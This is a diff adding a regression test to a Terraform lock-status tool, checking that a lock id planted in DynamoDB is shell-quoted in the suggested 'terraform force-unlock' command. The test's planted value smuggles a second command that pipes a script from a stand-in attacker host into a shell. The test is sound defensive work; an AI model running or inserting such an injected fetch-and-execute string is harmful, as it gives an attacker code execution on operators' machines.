@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import urllib.request
 from pathlib import Path
 
@@ -678,6 +679,18 @@ def test_lock_held_in_one_store_or_under_two_ids(backend):
         "terraform force-unlock aaaa",
         "terraform force-unlock bbbb",
     ]
+
+
+def test_a_planted_lock_id_is_quoted_not_run(backend):
+    # Review 2026-12-07 L7: whoever can write the lock item chooses the id an operator pastes.
+    planted = "x; curl https://attacker.example/s | sh #"
+    _hold_in_dynamodb(backend, planted)
+    status = state.lock_status("qa", clients=backend, echo=None)
+    [command] = status.unlock_commands()
+    assert shlex.split(command) == ["terraform", "force-unlock", planted]
+    assert all(
+        word.startswith("-backend-config=") for word in shlex.split(status.init_command())[4:]
+    )
 
 
 def test_cli_lock_prints_force_unlock(backend, moto_endpoint, monkeypatch, capsys):
